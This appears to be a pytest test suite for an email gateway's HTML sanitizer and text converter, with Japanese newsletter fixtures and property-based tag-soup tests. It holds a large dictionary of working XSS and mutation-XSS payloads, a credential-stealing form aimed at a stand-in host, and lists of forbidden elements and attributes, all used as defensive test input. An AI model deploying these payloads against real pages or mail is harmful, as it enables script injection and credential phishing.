"""HTML bodies: converted to text, or sanitized, with hostile inputs built in code.

The sanitized output is checked with an independent, browser-conformant parser (html5lib,
vendored by bleach), never with nh3 or our own scanner.
"""

from __future__ import annotations

import time
import xml.etree.ElementTree as ET

import pytest
from bleach._vendor import html5lib
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.errors import CannotSanitize
from gateway.sanitizers.html import MAX_HTML_CHARS, html_to_text, sanitize_html
from gateway.sanitizers.urls import UrlPolicy
from tests.text.linkify import live_links

POLICY = UrlPolicy()

FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "textarea", "select", "option", "meta", "base", "link", "svg", "math",
    "template", "noscript", "isindex", "xmp", "plaintext", "title", "audio", "video", "source",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "action", "formaction", "srcdoc", "data", "poster", "background",
                  "codebase", "lowsrc", "dynsrc", "ping", "cite", "longdesc", "usemap"}  # fmt: skip


def assert_harmless_html(markup: str) -> None:
    """What a browser would build from ``markup`` has nothing active and nothing clickable."""
    document = html5lib.parse(markup, namespaceHTMLElements=False)
    texts: list[str] = []
    for element in document.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        assert not tag.startswith("{"), f"foreign element {tag}"
        assert tag not in FORBIDDEN_ELEMENTS, f"<{tag}> survived"
        for name, value in element.attrib.items():
            local = name.rpartition("}")[2].lower()
            assert not local.startswith("on"), f"{tag} {name}"
            assert local not in URL_ATTRIBUTES, f"{tag} {name}={value}"
            if local == "src":
                assert value.strip().lower().startswith("cid:"), f"{tag} src={value}"
            if local == "style":
                lowered = value.lower()
                for bad in ("url(", "expression", "@import", "\\", "javascript", "/*", "behavior"):
                    assert bad not in lowered, f"style {value}"
    _collect_text(document, texts)
    assert live_links("".join(texts)) == []


INLINE = {"a", "abbr", "b", "bdi", "bdo", "big", "cite", "code", "del", "dfn", "em", "font",
          "i", "ins", "kbd", "mark", "q", "s", "samp", "small", "span", "strike", "strong",
          "sub", "sup", "time", "tt", "u", "var", "wbr"}  # fmt: skip


def _collect_text(element: ET.Element, out: list[str]) -> None:
    """Text in document order, with a line break where a browser would put one."""
    out.append(element.text or "")
    for child in element:
        block = child.tag not in INLINE
        out.append("\n" if block else "")
        _collect_text(child, out)
        out.append("\n" if block else "")
        out.append(child.tail or "")


HOSTILE = {
    "script": "<script>alert(1)</script>ok",
    "script-split": "<scr<script>ipt>alert(1)</script>ok",
    "event-handler": '<img src=x onerror="alert(1)">ok',
    "event-handler-unquoted": "<img src=x onerror=alert(1)//>ok",
    "body-onload": '<body onload="alert(1)">ok</body>',
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>ok",
    "svg-script": "<svg><script>alert(1)</script></svg>ok",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="1">x</text></a></svg>ok',
    "svg-style-mxss": "<svg><style><img src=x onerror=alert(1)></style></svg>ok",
    "math-href": '<math href="javascript:alert(1)">x</math>ok',
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>ok",
    "form-math-mxss": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>ok"
    ),
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">ok',
    "comment-mxss": "<!--><img src=x onerror=alert(1)>-->ok",
    "comment-conditional": "<!--[if IE]><script>alert(1)</script><![endif]-->ok",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>ok",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>ok",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>ok",
    "template": "<select><template><img src=x onerror=alert(1)></template></select>ok",
    "iframe": '<iframe src="https://evil.example/"></iframe>ok',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>ok',
    "frameset": '<frameset><frame src="https://evil.example/"></frameset>ok',
    "object": '<object data="https://evil.example/x.swf"></object>ok',
    "embed": '<embed src="https://evil.example/x.swf">ok',
    "applet": '<applet code="X.class"></applet>ok',
    "form": '<form action="https://evil.example/steal"><input name=pw type=password></form>ok',
    "form-button": '<button formaction="javascript:alert(1)">go</button>ok',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">ok',
    "base": '<base href="https://evil.example/"><a href="/x">rel</a>ok',
    "link-css": '<link rel="stylesheet" href="https://evil.example/x.css">ok',
    "style-import": "<style>@import 'https://evil.example/x.css';</style>ok",
    "style-expression": '<div style="width: expression(alert(1))">ok</div>',
    "style-url": '<div style="background:url(javascript:alert(1))">ok</div>',
    "style-escape": '<div style="background:\\75rl(https://evil.example/x)">ok</div>',
    "style-comment": '<div style="color:red;/**/background:url(x)">ok</div>',
    "style-behavior": '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">ok</div>',
    "js-href": '<a href="javascript:alert(1)">ok</a>',
    "js-href-entity": '<a href="&#106;avascript:alert(1)">ok</a>',
    "js-href-tab": '<a href="jav&#x09;ascript:alert(1)">ok</a>',
    "js-href-space": '<a href="  javascript:alert(1)">ok</a>',
    "js-href-upper": '<a href="JAVASCRIPT:alert(1)">ok</a>',
    "vbscript-href": '<a href="vbscript:msgbox(1)">ok</a>',
    "data-href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ok</a>',
    "remote-image": '<img src="https://tracker.example/p.gif" alt="logo">ok',
    "protocol-relative-image": '<img src="//tracker.example/p.gif">ok',
    "data-image": '<img src="data:image/png;base64,iVBORw0KGgo=">ok',
    "input-image": '<input type="image" src="https://evil.example/x.png">ok',
    "table-background": '<table background="https://evil.example/x.gif"><tr><td>ok</td></tr></table>',
    "unclosed-a": '<a href="https://evil.example/x">ok',
    "unclosed-attr": '<a href="https://evil.example/x>ok</a>',
    "isindex": "<isindex action=javascript:alert(1)>ok",
    "audio": '<audio src="https://evil.example/a.mp3" autoplay></audio>ok',
    "video-poster": '<video poster="javascript:alert(1)"></video>ok',
    "nested-quotes": '<img src="x" alt=\'" onerror=alert(1) x="\'>ok',
    "null-byte": "<scr\x00ipt>alert(1)</script>ok",
    "ping": '<a href="https://example.com" ping="https://evil.example/">ok</a>',
    "link-lookalike": '<a href="https://evil.example/">https://bank.example.co.jp/</a>ok',
}


# Inputs where a browser, too, shows no "ok": it ends inside a <style> or an attribute.
SWALLOWED = {HOSTILE["math-mxss"], HOSTILE["form-math-mxss"], HOSTILE["unclosed-attr"]}


@pytest.mark.parametrize("markup", HOSTILE.values(), ids=HOSTILE.keys())
def test_sanitized_html_is_harmless(markup: str) -> None:
    result = sanitize_html(markup, POLICY)
    assert_harmless_html(result.text)


@pytest.mark.parametrize("markup", HOSTILE.values(), ids=HOSTILE.keys())
def test_html_to_text_is_harmless_and_keeps_text(markup: str) -> None:
    result = html_to_text(markup, POLICY)
    assert live_links(result.text) == []
    if markup not in SWALLOWED:
        assert "ok" in result.text
    assert "<script" not in result.text.lower()


@pytest.mark.parametrize(
    ("markup", "code"),
    [
        (HOSTILE["script"], "HTML_SCRIPT"),
        (HOSTILE["event-handler"], "HTML_EVENT_HANDLER"),
        (HOSTILE["form"], "HTML_FORM"),
        (HOSTILE["iframe"], "HTML_IFRAME"),
        (HOSTILE["object"], "HTML_OBJECT"),
        (HOSTILE["embed"], "HTML_OBJECT"),
        (HOSTILE["meta-refresh"], "HTML_META_REFRESH"),
        (HOSTILE["base"], "HTML_BASE"),
        (HOSTILE["link-css"], "HTML_EXTERNAL_RESOURCE"),
        (HOSTILE["style-import"], "HTML_CSS_ACTIVE"),
        (HOSTILE["style-expression"], "HTML_CSS_ACTIVE"),
        (HOSTILE["remote-image"], "HTML_REMOTE_IMAGE"),
        (HOSTILE["data-image"], "HTML_DATA_IMAGE"),
        (HOSTILE["js-href-entity"], "HTML_SCRIPT_URL"),
        (HOSTILE["svg-onload"], "HTML_SVG"),
        (HOSTILE["math-href"], "HTML_MATHML"),
        (HOSTILE["comment-conditional"], "HTML_CONDITIONAL_COMMENT"),
    ],
)
def test_findings_name_what_was_removed(markup: str, code: str) -> None:
    for convert in (sanitize_html, html_to_text):
        findings = convert(markup, POLICY).findings
        assert code in {f.code for f in findings}
        detail = next(f.detail for f in findings if f.code == code)
        assert detail.startswith("1: ")


def test_findings_count_every_occurrence_and_clean_html_has_none() -> None:
    markup = '<img src="https://a.example/1.gif" onload=x><img src="https://b.example/2.gif">'
    findings = {f.code: f.detail for f in sanitize_html(markup, POLICY).findings}
    assert findings["HTML_REMOTE_IMAGE"] == "2: https://a.example/1.gif"
    assert findings["HTML_EVENT_HANDLER"] == "1: img onload"
    clean = "<p>こんにちは、<b>山田</b>です。</p><ul><li>一</li></ul>"
    assert sanitize_html(clean, POLICY).findings == ()
    assert html_to_text(clean, POLICY).findings == ()


NEWSLETTER = """<html><head><title>お知らせ</title>
<style>.x{color:red}</style></head><body>
<h1>市役所からのお知らせ</h1>
<p>いつもご利用ありがとうございます。<br>詳細は<a href="https://www.city.example.lg.jp/news/1.html">こちら</a>をご覧ください。</p>
<p>お問い合わせ: <a href="mailto:info@city.example.lg.jp">info@city.example.lg.jp</a></p>
<ul><li>第一項目</li><li>第二項目</li></ul>
<ol><li>手順一</li><li>手順二</li></ol>
<table border="1"><tr><th>日付</th><th>内容</th></tr>
<tr><td>4月1日</td><td>説明会</td></tr><tr><td>4月2日</td><td>申込締切</td></tr></table>
<p><img src="cid:logo@example" alt="ロゴ"></p>
</body></html>"""


def test_html_to_text_layout_is_readable() -> None:
    result = html_to_text(NEWSLETTER, POLICY)
    text = result.text
    assert "市役所からのお知らせ" in text
    assert (
        "詳細はこちら (hxxps://www[.]city[.]example[.]lg[.]jp/news/1.html) をご覧ください。"
        in (text.replace("こちら (", "こちら ("))
        or "こちら (hxxps://www[.]city[.]example[.]lg[.]jp/news/1.html)" in text
    )
    assert "info@city[.]example[.]lg[.]jp" in text
    assert "  * 第一項目\n  * 第二項目" in text
    assert "1. 手順一" in text
    lines = [line.strip() for line in text.splitlines()]
    assert any(line.startswith("4月1日") and line.endswith("説明会") for line in lines)
    assert "[ロゴ]" in text
    assert "お知らせ\n" not in text.split("市役所")[0]  # <title> is not body text
    assert ".x{color:red}" not in text
    assert result.urls_defanged == 2
    assert live_links(text) == []


def test_link_text_equal_to_target_is_not_repeated() -> None:
    text = html_to_text('<a href="https://example.com/">https://example.com/</a>', POLICY).text
    assert text.strip() == "hxxps://example[.]com/"


def test_link_lookalike_shows_the_real_target() -> None:
    text = html_to_text(HOSTILE["link-lookalike"], POLICY).text
    assert "hxxps://bank[.]example[.]co[.]jp/ (hxxps://evil[.]example/)" in text


def test_sanitized_html_keeps_formatting_and_inline_images() -> None:
    result = sanitize_html(NEWSLETTER, POLICY)
    assert "<h1>市役所からのお知らせ</h1>" in result.text
    assert '<img src="cid:logo@example" alt="ロゴ">' in result.text
    assert "<td>説明会</td>" in result.text
    assert "こちら (hxxps://www[.]city[.]example[.]lg[.]jp/news/1.html)" in result.text
    assert "href" not in result.text
    assert_harmless_html(result.text)


def test_sanitized_html_keeps_plain_css_only() -> None:
    markup = '<p style="color: red; font-weight: bold; background: url(x); position: fixed">a</p>'
    assert sanitize_html(markup, POLICY).text == '<p style="color: red; font-weight: bold">a</p>'


def test_url_split_across_elements_is_defanged() -> None:
    result = sanitize_html("<p>see <b>example</b>.com and <i>www</i>.example.jp</p>", POLICY)
    assert result.text == "<p>see <b>example</b>[.]com and <i>www</i>[.]example[.]jp</p>"


def test_sanitize_is_idempotent_and_text_conversion_stable() -> None:
    once = sanitize_html(NEWSLETTER, POLICY).text
    assert sanitize_html(once, POLICY).text == once
    text = html_to_text(NEWSLETTER, POLICY).text
    assert html_to_text(text, POLICY).text.split() == text.split()


def test_remove_and_allow_policies_apply_to_html() -> None:
    remove = html_to_text(NEWSLETTER, UrlPolicy(mode="remove")).text
    assert "[URL removed]" in remove
    assert "city.example" not in remove.replace("[.]", ".").split("@")[0]
    allow = UrlPolicy(allow_domains=frozenset({"city.example.lg.jp"}))
    kept = html_to_text(NEWSLETTER, allow).text
    assert "(https://www.city.example.lg.jp/news/1.html)" in kept


@pytest.mark.parametrize("convert", [html_to_text, sanitize_html])
def test_too_large_html_fails_closed(convert) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(CannotSanitize) as raised:
        convert("<p>" + "a" * MAX_HTML_CHARS + "</p>", POLICY)
    assert raised.value.code == "HTML_TOO_LARGE"


def test_deep_nesting_is_bounded() -> None:
    deep = "<div>" * 100_000 + "深いテキスト https://evil.example/" + "</div>" * 100_000
    started = time.monotonic()
    result = html_to_text(deep, POLICY)
    assert time.monotonic() - started < 30  # html5ever alone took 211 s on this input
    assert "深いテキスト hxxps://evil[.]example/" in result.text
    assert "HTML_LAYOUT_FLATTENED" in {f.code for f in result.findings}
    with pytest.raises(CannotSanitize) as raised:
        sanitize_html(deep, POLICY)
    assert raised.value.code == "HTML_TOO_DEEP"


def test_moderate_nesting_past_lxml_limit_keeps_text() -> None:
    deep = "<div>" * 300 + "まだ読める" + "</div>" * 300
    result = html_to_text(deep, POLICY)
    assert "まだ読める" in result.text


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<a href='https://evil.example/x'>",
                "</a>",
                "<b>",
                "</b>",
                "<p>",
                "</p>",
                "<svg>",
                "</svg>",
                "<math>",
                "<style>",
                "</style>",
                "<script>",
                "</script>",
                "<img src=x onerror=alert(1)>",
                "<!--",
                "-->",
                "<noscript>",
                "</noscript>",
                "<table>",
                "<td>",
                "www.example.com",
                "example",
                ".com",
                "テキスト",
                '"',
                "'",
                "<![CDATA[",
                "]]>",
                "<form>",
                "<textarea>",
                "javascript:alert(1)",
                "&lt;",
                "<a href=javascript:alert(1)>",
                "<iframe src=https://e.example>",
                "<mglyph>",
            ]
        ),
        max_size=25,
    ).map("".join)
)
def test_property_any_tag_soup_comes_out_harmless(markup: str) -> None:
    assert_harmless_html(sanitize_html(markup, POLICY).text)
    assert live_links(html_to_text(markup, POLICY).text) == []


def test_nh3_output_parses_the_same_in_lxml() -> None:
    """A second, different parser reads the sanitized output to the same text."""
    from lxml.html import fromstring

    out = sanitize_html(NEWSLETTER, POLICY).text
    lxml_text = " ".join(fromstring(f"<div>{out}</div>").text_content().split())
    html5_text = " ".join(
        "".join(html5lib.parse(out, namespaceHTMLElements=False).itertext()).split()
    )
    assert lxml_text == html5_text


@pytest.mark.parametrize("markup", ["\udc80<p>x</p>", "<p>\x00</p>", "", "   ", "<", "&#xD800;"])
def test_odd_input_never_raises(markup: str) -> None:
    assert isinstance(html_to_text(markup, POLICY).text, str)
    assert_harmless_html(sanitize_html(markup, POLICY).text)
